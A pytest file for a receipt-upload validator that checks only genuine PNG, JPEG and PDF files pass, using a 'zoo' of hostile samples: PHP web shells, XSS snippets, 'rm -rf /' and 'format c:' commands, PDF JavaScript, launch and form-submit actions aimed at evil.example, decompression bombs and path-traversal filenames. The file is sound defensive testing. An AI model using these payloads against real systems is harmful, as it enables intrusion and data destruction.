"""What is accepted as a receipt, and the zoo of what is not."""

from __future__ import annotations

import hashlib
import struct
import threading
import time
import tracemalloc
import zlib
from io import BytesIO
from zipfile import ZipFile

import pytest
from PIL import Image

from spendtrackr import errors
from tests.papers import chunk, pdf, picture, segment, stream, with_chunk, with_segment
from transactions import documents
from transactions.documents import inspect
from transactions.models import ReceiptType

PNG, JPEG, PDF = picture(), picture("JPEG"), pdf()
FILM = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom\0\0\0\x10mdat" + bytes(8)
SAMSUNGS = b"\0\0\x01\x0a\x0e\0\0\0Image_UTC_Data1700000000000" + b"SEFH" + bytes(20) + b"\x18\0\0\0SEFT"

KINDS = "This is not a PNG, JPEG or PDF, whatever its name says. Those three are accepted."
CUT_PICTURE = "This picture is cut off before its end."
CUT_JPEG = "This picture is damaged or cut off before its end."
DAMAGED = "This picture is damaged or cut off: it cannot be shown."
BEHIND = "There is something behind the end of this picture. Save it anew and send that."
PAGE = "There is a web page or a script in this picture. Save it anew and send that."
TWO = "There is a PDF in this picture. Send the one or the other."
ARCHIVE = "There is an archive in this file. Send the receipt by itself."
LARGE = "A picture may have 50 million pixels, and 30,000 on a side."
PIECES = "This picture is cut into too many pieces."
MOVES = "This picture moves. Send one that stands still."
CUT_PDF = "This PDF is cut off before its end, or there is something behind it."
ACTS = "This PDF holds scripts, forms that send, or other files. Print it as PDF anew and send that."
UNPACKS = "This PDF unpacks to far more than a receipt holds."
PDF_PIECES = "This PDF is cut into too many pieces."
PICTURES = "There are too many pictures in this file. Send one."
PDF_PAGE = "There is a web page or a script in this PDF. Print it as PDF anew and send that."


def refusal(content: bytes, name: str = "receipt.png") -> errors.DomainError:
    with pytest.raises(errors.DomainError) as refused:
        inspect(content, name)
    assert refused.value.field == "file"
    return refused.value


def archive() -> bytes:
    file = BytesIO()
    with ZipFile(file, "w") as packed:
        packed.writestr("evil.bat", "format c:")
    return file.getvalue()


def blank_png(width: int, height: int, *, rows: int | None = None) -> bytes:
    """A black picture of any size in next to no bytes; with fewer rows than it says, in fewer still."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(width + 1)) for _ in range(height if rows is None else rows)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def half_packed() -> bytes:
    """All chunks are whole, and what they hold is not."""
    pixels = zlib.compress(b"".join(b"\0" + hashlib.sha512(b"%d" % row).digest() for row in range(64)))
    header = struct.pack(">IIBBBBB", 64, 64, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels[: len(pixels) // 2]) + chunk(b"IEND", b"")


def animated() -> bytes:
    file = BytesIO()
    frames = [Image.new("L", (2, 2), n) for n in range(5)]
    frames[0].save(file, "PNG", save_all=True, append_images=frames[1:])
    return file.getvalue()


def saved_as(codec: str) -> bytes:
    file = BytesIO()
    Image.new("RGB", (2, 2)).save(file, codec)
    return file.getvalue()


@pytest.mark.parametrize(
    ("content", "kind", "name"),
    [(PNG, ReceiptType.PNG, "a.png"), (JPEG, ReceiptType.JPEG, "a.jpg"), (PDF, ReceiptType.PDF, "a.pdf")],
)
def test_a_png_a_jpeg_and_a_pdf_are_known_by_their_bytes(content, kind, name):
    for given in (name, "a.exe"):
        assert inspect(content, given) == documents.Document(kind, hashlib.sha256(content).hexdigest(), len(content), name)


@pytest.mark.parametrize(
    "content",
    [
        picture("JPEG", size=(600, 400), progressive=True),
        picture("JPEG", size=(64, 64), comment="Thank you for your visit"),
        picture("PNG", size=(3000, 4000)),
        picture("PNG", size=(400, 20_000)),
        with_chunk(PNG, b"iTXt", b'XML:com.adobe.xmp\0\0\0\0\0<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"></x:xmpmeta>'),
        with_chunk(PNG, b"iDOT", bytes(28)),
        with_segment(JPEG, 0xE1, b'http://ns.adobe.com/xap/1.0/\0<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"></x:xmpmeta>'),
        with_segment(JPEG, 0xE1, b"Exif\0\0" + bytes(20) + picture("JPEG", size=(2, 2))),
        JPEG.replace(b"\xff\xd9", b"\xff\xff\xff\xd9"),
        pdf(stream(b"BT /F1 12 Tf (Total 12.00) Tj ET")),
        pdf(stream(b"5 0 6 30 <</Type/Font>> <</Type/XObject>>", entries=b"/Type/ObjStm/N 2/First 9")),
        pdf(b"<</Type/Action/S/URI/URI(https://shop.example/r/1)>>"),
        pdf(b"<</OpenAction[3 0 R/Fit]/AcroForm<</Fields[]>>>>"),
        pdf(b"<</Filter/DCTDecode/Length 12>>\nstream\n\x01\x02/JS (\x03\x04/XFA \nendstream"),
        pdf(b"<</JSX 1/Launched 2>>"),
        PDF.replace(b"trailer\n<<", b"trailer\n<</Encrypt 4 0 R"),
        PDF + b"\r\n\0 \n",
    ],
)
def test_what_people_have_is_accepted(content):
    assert inspect(content, "receipt").size == len(content)


@pytest.mark.parametrize(
    "behind",
    [
        bytes(512),
        picture("JPEG", size=(4, 4)),
        bytes(16) + picture("JPEG", size=(4, 4)) + picture("JPEG", size=(2, 2)) + b"\0\0",
        FILM,
        SAMSUNGS,
        picture("JPEG", size=(4, 4)) + FILM + SAMSUNGS,
    ],
)
def test_what_phones_write_behind_a_jpeg_is_kept(behind):
    assert inspect(JPEG + behind, "a.jpg").size == len(JPEG + behind)


ZOO = {
    "nothing": (b"", "This file is empty."),
    "html under a picture's name": (b"<!doctype html><script>alert(1)</script>", KINDS),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', KINDS),
    "gif": (saved_as("GIF"), KINDS),
    "webp": (saved_as("WEBP"), KINDS),
    "bmp": (saved_as("BMP"), KINDS),
    "a zip, a docx": (archive(), KINDS),
    "a program": (b"MZ" + bytes(100), KINDS),
    "avif": (b"\0\0\0\x1cftypavif" + bytes(16), KINDS),
    "heic": (
        b"\0\0\0\x18ftypheic" + bytes(16),
        "This is a HEIC photo, as iPhones take them. Please send it as JPEG (a screenshot of it will do), PNG or PDF.",
    ),
    "a png that starts late": (b"\n" + PNG, KINDS),
    "a pdf that starts late": (b"GIF89a" + PDF, KINDS),
    "half a png": (PNG[: len(PNG) // 2], CUT_PICTURE),
    "a png without its end": (PNG[:-12], CUT_PICTURE),
    "a png of a wrong checksum": (PNG[:29] + b"\0\0\0\0" + PNG[33:], DAMAGED),
    "only a png's first bytes": (PNG[:8], CUT_PICTURE),
    "a png cut off on the inside": (half_packed(), DAMAGED),
    "a png without pixels": (PNG[:33] + chunk(b"IEND", b""), DAMAGED),
    "half a jpeg": (JPEG[: len(JPEG) // 2], CUT_JPEG),
    "a jpeg without its end": (JPEG[:-2], CUT_JPEG),
    "only a jpeg's first bytes": (JPEG[:3], CUT_JPEG),
    "a jpeg without pixels": (b"\xff\xd8" + segment(0xE0, b"JFIF\0") + b"\xff\xd9", DAMAGED),
    "a bomb": (blank_png(10_000, 10_000, rows=1), LARGE),
    "a bomb that pillow knows": (blank_png(20_000, 20_000, rows=1), LARGE),
    "a bomb beyond counting": (blank_png(2**31 - 1, 2**31 - 1, rows=0), LARGE),
    "a line of pixels": (blank_png(60_000, 1), LARGE),
    "a tower of pixels": (blank_png(1, 60_000), LARGE),
    "a jpeg whose header lies": (JPEG.replace(b"\0\x08\0\x08", b"\xff\xff\xff\xff"), LARGE),
    "a moving picture": (animated(), MOVES),
    "thousands of chunks": (PNG[:33] + chunk(b"tEXt", b"a\0b") * 6_000 + PNG[33:], PIECES),
    "thousands of segments": (JPEG[:2] + segment(0xFE, b"") * 6_000 + JPEG[2:], PIECES),
    "hundreds of scans": (JPEG[:-2] + JPEG[JPEG.index(b"\xff\xda") : -2] * 100 + b"\xff\xd9", PIECES),
    "a text that unpacks to 100 MB": (with_chunk(PNG, b"zTXt", b"Comment\0\0" + zlib.compress(bytes(100_000_000))), DAMAGED),
    "a profile that unpacks to 100 MB": (with_chunk(PNG, b"iCCP", b"icc\0\0" + zlib.compress(bytes(100_000_000))), DAMAGED),
    "a page behind a png": (PNG + b"<script>alert(1)</script>", BEHIND),
    "an archive behind a png": (PNG + archive(), BEHIND),
    "zeros behind a png": (PNG + b"\0", BEHIND),
    "an archive behind a jpeg": (JPEG + archive(), BEHIND),
    "a page behind a jpeg": (JPEG + b"<html><body>hello", BEHIND),
    "a shell script behind a jpeg": (JPEG + b"\n#!/bin/sh\nrm -rf /\n", BEHIND),
    "a pdf behind a jpeg": (JPEG + PDF, BEHIND),
    "a program behind a jpeg": (JPEG + b"MZ\x90\0", BEHIND),
    "an archive behind a film": (JPEG + FILM + archive(), ARCHIVE),
    "a pdf behind a film": (JPEG + FILM + PDF, TWO),
    "a page behind a film": (JPEG + FILM + b"<ScRiPt >alert(1)</script>", PAGE),
    "an svg behind a film": (JPEG + FILM + b"<svg onload=alert(1)>", PAGE),
    "a script among samsung's notes": (JPEG + b"\0\0<?php system($_GET[0]);" + SAMSUNGS, PAGE),
    "an archive in a comment of a picture behind": (JPEG + with_segment(JPEG, 0xFE, archive()), ARCHIVE),
    "half a picture behind a jpeg": (JPEG + JPEG[:50], CUT_JPEG),
    "an archive in a png's text": (with_chunk(PNG, b"tEXt", b"a\0" + archive()), ARCHIVE),
    "an archive in a jpeg's comment": (with_segment(JPEG, 0xFE, archive()), ARCHIVE),
    "a page in a png's text": (with_chunk(PNG, b"tEXt", b"Comment\0<html><body onload=alert(1)>"), PAGE),
    "php in a png's text": (with_chunk(PNG, b"tEXt", b"Comment\0<?php system($_GET[0]); ?>"), PAGE),
    "short php in a png's text": (with_chunk(PNG, b"tEXt", b"Comment\0<?=`$_GET[0]`?>"), PAGE),
    "a page in a chunk nobody knows": (with_chunk(PNG, b"evIl", b"<img src=x onerror=alert(1)>"), PAGE),
    "a page in a jpeg's comment": (with_segment(JPEG, 0xFE, b"<!DOCTYPE html><p>"), PAGE),
    "a script in a jpeg's application segment": (with_segment(JPEG, 0xE5, b"<SCRIPT\n>alert(1)</script>"), PAGE),
    "an svg far behind in a jpeg": (with_segment(with_segment(JPEG, 0xFE, b"<svg/onload=x>"), 0xFE, bytes(9_000)), PAGE),
    "a pdf in a jpeg's comment": (with_segment(JPEG, 0xFE, PDF), TWO),
    "a pdf in a png's text": (with_chunk(PNG, b"tEXt", b"a\0" + PDF), TWO),
    "half a pdf": (PDF[: len(PDF) // 2], CUT_PDF),
    "a page behind a pdf": (PDF + b"<html>", CUT_PDF),
    "an archive behind a pdf": (PDF + archive(), CUT_PDF),
    "an archive in a pdf": (pdf(b"<<>>\nstream\n" + archive() + b"\nendstream"), ARCHIVE),
    "a page in a pdf's head": (b"%PDF-1.7\n%<script>alert(1)</script>\n" + PDF[9:], PDF_PAGE),
    "a pdf that runs a script": (pdf(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), ACTS),
    "a pdf with a script alone": (pdf(b"<</JS 5 0 R>>"), ACTS),
    "a pdf that writes its names in a code": (pdf(b"<</S/J#61va#53cript/J#53(app.alert\\(1\\))>>"), ACTS),
    "a pdf that plays": (pdf(b"<</S/Rendition/J#53(x)>>"), ACTS),
    "a pdf that starts a program": (pdf(b"<</S/Launch/F(calc.exe)>>"), ACTS),
    "a pdf with a file inside": (pdf(b"<</Type/EmbeddedFile/Length 0>>"), ACTS),
    "a pdf with a film inside": (pdf(b"<</Subtype/RichMedia>>"), ACTS),
    "a pdf that sends": (pdf(b"<</S/SubmitForm/F(https://evil.example)>>"), ACTS),
    "a pdf with a dynamic form": (pdf(b"<</XFA 5 0 R>>"), ACTS),
    "a pdf with a script for a link": (pdf(b"<<" + b" " * 1024 + b"/S/URI/URI (JavaScript:alert(1))>>"), ACTS),
    "a pdf with a script in packed objects": (
        pdf(stream(b"5 0 6 30 <</S/JavaScript/JS(app.alert\\(1\\))>>", entries=b"/Type/ObjStm/N 2/First 9")),
        ACTS,
    ),
    "a pdf with a script in packed objects behind blanks": (pdf(stream(b"\0 \n" * 99 + b"5 0 <</S/JavaScript>>")), ACTS),
    "a pdf with a script behind a feigned stream": (pdf(b"<<>>\n%stream\n<</S/JavaScript/JS(x)>>\n%endstream"), ACTS),
    "a pdf with a script in packed objects of a wrong checksum": (
        pdf(stream(b"5 0 <</S/JavaScript>>").replace(zlib.compress(b"5 0 <</S/JavaScript>>")[-4:], b"\0\0\0\0")),
        ACTS,
    ),
    "a pdf with a script in a stream inside of a stream": (
        pdf(b"<<>>\nstream\n" + zlib.compress(b"5 0 " + stream(b"6 0 <</S/JavaScript>>"), 0) + b"\nendstream"),
        ACTS,
    ),
    "a pdf with a script for a link in a code": (pdf(b"<<" + b" " * 1024 + b"/#55R#49 (JavaScript:alert(1))>>"), ACTS),
    "a pdf that unpacks without end": (pdf(stream(b"5 0 " + bytes(100_000_000))), UNPACKS),
    "a pdf of countless streams": (pdf(b"stream\n" * 25_000), PDF_PIECES),
    "many pictures behind a jpeg": (JPEG * 17, PICTURES),
}


@pytest.mark.parametrize("name", ZOO)
def test_what_is_no_receipt_is_refused_with_a_sentence(name):
    content, sentence = ZOO[name]
    refused = refusal(content)
    assert (refused.message, refused.status, refused.code) == (sentence, 400, "invalid")


def filled(unit: bytes, size: int = 10_000_000) -> bytes:
    return unit * (size // len(unit))


def bits(*fields: tuple[int, int]) -> bytes:
    """Numbers and their widths, packed as deflate packs them: the lowest bit first."""
    value = at = 0
    for number, width in fields:
        value |= number << at
        at += width
    return value.to_bytes((at + 7) // 8, "little")


def empty_tables() -> bytes:
    """Eight deflate blocks that each describe a code, and hold nothing: the most work that a byte can make."""
    lengths = [0] * 18
    lengths[2] = lengths[17] = 1  # 18: a run of zeros; 1: one bit
    block = [
        (0, 1),
        (2, 2),
        (0, 5),
        (0, 5),
        (14, 4),
        *((n, 3) for n in lengths),
        (1, 1),
        (127, 7),
        (1, 1),
        (107, 7),
        (0, 1),
        (0, 1),
        (0, 1),
    ]
    return bits(*block * 8)


def nested_streams(count: int, block: bytes, size: int = 9_900_000) -> bytes:
    """Each stream begins inside of the one before it, and all of them go on to the end of the file."""
    opening = b"1 0 stream\nx\x9c"
    inner = len(opening).to_bytes(2, "little") + (len(opening) ^ 0xFFFF).to_bytes(2, "little") + opening
    return pdf(b"<<>>\n" + opening + (b"\0" + inner) * count + filled(block, size) + b"\nendstream")


EMPTY = b"\0\0\0\xff\xff"
# What made the checks slow or large, or was thought up to. The sentence is that of the refusal; None is accepted.
HOSTILE = {
    "a stream of codes": (lambda: pdf(stream(b"1 0 " + b"#20" * (16 * 1024 * 1024))), UNPACKS),
    "a stream of codes within the limit": (lambda: pdf(stream(b"1 0 " + filled(b"#20", 8_000_000))), None),
    "a stream of coded names": (lambda: pdf(stream(b"1 0 " + filled(b"/#20", 8_000_000))), PDF_PIECES),
    "a file of codes": (lambda: pdf(filled(b"#20")), None),
    "a file of coded names": (lambda: pdf(filled(b"/#20")), PDF_PIECES),
    "coded names as long as they are read": (lambda: pdf(filled(b"/" + b"#20" * 15)), PDF_PIECES),
    "one coded name": (lambda: pdf(b"/" + filled(b"#20")), None),
    "a file of slashes": (lambda: pdf(filled(b"/")), None),
    "a file of beginnings": (lambda: pdf(filled(b"/R")), None),
    "a file of links": (lambda: pdf(filled(b"/URI ")), None),
    "a file and a stream of slashes": (lambda: pdf(stream(b"1 0 " + filled(b"/", 8_000_000)), filled(b"/")), None),
    "streams in streams": (lambda: nested_streams(400, EMPTY), PDF_PIECES),
    "streams in streams, thousands": (lambda: nested_streams(19_000, EMPTY, 9_000_000), PDF_PIECES),
    "streams in streams of tables": (lambda: nested_streams(400, empty_tables()), PDF_PIECES),
    "one stream of empty blocks": (lambda: nested_streams(0, EMPTY), PDF_PIECES),
    "one stream of tables": (lambda: nested_streams(0, empty_tables()), PDF_PIECES),
    "streams that break": (lambda: pdf((b"stream\nx\x9c" + EMPTY * 90 + b"\xff\nendstream\n") * 19_000), PDF_PIECES),
    "many short streams": (lambda: pdf(*[stream(b"1 0 <<>>" + bytes(300))] * 19_000), None),
    "blanks without end": (lambda: pdf(stream(bytes(200_000_000))), UNPACKS),
    "a mask of blanks": (lambda: pdf(stream(bytes(30_000_000) + b"\xff" * 10_000_000)), None),
    "streams that end at once": (lambda: pdf(filled(b"stream\nendstream\n")), PDF_PIECES),
    "ends of streams": (lambda: pdf(filled(b"endstream\n")), None),
    "pictures behind a picture": (lambda: JPEG + filled(b"\xff\xd8\xff\xd9"), PICTURES),
    "fill bytes": (lambda: JPEG[:-2] + filled(b"\xff") + b"\xd9", None),
    "fill bytes behind a picture": (lambda: JPEG + b"\xff\xd8" + filled(b"\xff") + b"\xd9", None),
    "blanks behind a picture": (lambda: JPEG + filled(b"\0"), None),
    "stuffed bytes": (lambda: JPEG + JPEG[:-2] + filled(b"\xff\0") + b"\xff\xd9", None),
    "brackets in comments": (lambda: JPEG[:2] + segment(0xFE, b"<" * 65_000) * 150 + JPEG[2:], None),
    "brackets behind a film": (lambda: JPEG + FILM + filled(b"<s"), None),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_no_file_keeps_us_busy_for_long(name, settings):
    """A guard and no benchmark: it took some of these 15 seconds."""
    make, sentence = HOSTILE[name]
    content = make()
    assert len(content) <= settings.RECEIPT_MAX_BYTES or sentence is None
    settings.RECEIPT_MAX_BYTES = 20 * 1024 * 1024
    began = time.process_time()
    if sentence is None:
        assert inspect(content, "a").size == len(content)
    else:
        assert refusal(content).message == sentence
    assert time.process_time() - began < 3


@pytest.mark.parametrize(
    "name", ["a stream of codes", "a stream of codes within the limit", "blanks without end", "a mask of blanks", "ends of streams"]
)
def test_no_file_takes_much_memory(name):
    make, sentence = HOSTILE[name]
    content = make()
    tracemalloc.start()
    try:
        inspect(content, "a") if sentence is None else refusal(content)
        assert tracemalloc.get_traced_memory()[1] < 60_000_000
    finally:
        tracemalloc.stop()


def test_too_many_bytes_are_refused_before_they_are_looked_at(settings):
    settings.RECEIPT_MAX_BYTES = 1024 * 1024
    refused = refusal(PNG + bytes(1024 * 1024))
    assert (refused.message, refused.status) == ("A receipt may have 1 MB.", 413)


def test_the_limit_of_pixels_is_a_setting_and_pillows_own_stays_as_it_was(settings):
    before = Image.MAX_IMAGE_PIXELS
    settings.RECEIPT_MAX_PIXELS = 1_000_000
    assert refusal(blank_png(1_001, 1_000)).message == "A picture may have 1 million pixels, and 30,000 on a side."
    assert inspect(blank_png(1_000, 1_000), "a.png").size
    settings.RECEIPT_MAX_PIXELS = 10**12
    assert refusal(blank_png(20_000, 20_000, rows=1)).message.startswith("A picture may have")
    assert before == Image.MAX_IMAGE_PIXELS


def test_a_bomb_is_not_unpacked(monkeypatch):
    monkeypatch.setattr("PIL.ImageFile.ImageFile.load", lambda image: pytest.fail("it was unpacked"))
    assert refusal(blank_png(10_000, 10_000, rows=1)).message == LARGE


def test_many_can_be_looked_at_at_once():
    seen: list[str] = []
    threads = [threading.Thread(target=lambda: seen.append(inspect(PNG, "a.png").content_hash)) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert seen == [hashlib.sha256(PNG).hexdigest()] * 8


@pytest.mark.parametrize(
    ("given", "content", "clean"),
    [
        ("Receipt 2026-03.png", PNG, "Receipt 2026-03.png"),
        ("IMG_0001.JPG", JPEG, "IMG_0001.jpg"),
        ("scan.jpeg", JPEG, "scan.jpeg"),
        ("photo.heic", JPEG, "photo.jpg"),
        ("invoice 2026.03", PDF, "invoice 2026.03.pdf"),
        ("evil.html", PNG, "evil.png"),
        ("evil.svg.png", JPEG, "evil.svg.jpg"),
        ("../../etc/passwd", PNG, "passwd.png"),
        ("C:\\Users\\alice\\scan.pdf", PDF, "scan.pdf"),
        ("a\r\nSet-Cookie: x=1.png", PNG, "a Set-Cookie_ x=1.png"),
        ("invoice\u202efdp.exe", PDF, "invoice fdp.pdf"),
        ("zero\u200bwidth\x00.pdf", PDF, "zero width.pdf"),
        ("Büro Ørsted 領収書.pdf", PDF, "Büro Ørsted 領収書.pdf"),
        ('<b>"x".png', PNG, "_b__x_.png"),
        ("...", PNG, "receipt.png"),
        ("", PDF, "receipt.pdf"),
        (".png", PNG, "receipt.png"),
        ("\ud800.png", PNG, "receipt.png"),
        ("x" * 300 + ".pdf", PDF, "x" * 116 + ".pdf"),
    ],
)
def test_a_name_is_cleaned_and_ends_as_its_content_does(given, content, clean):
    assert inspect(content, given).filename == clean
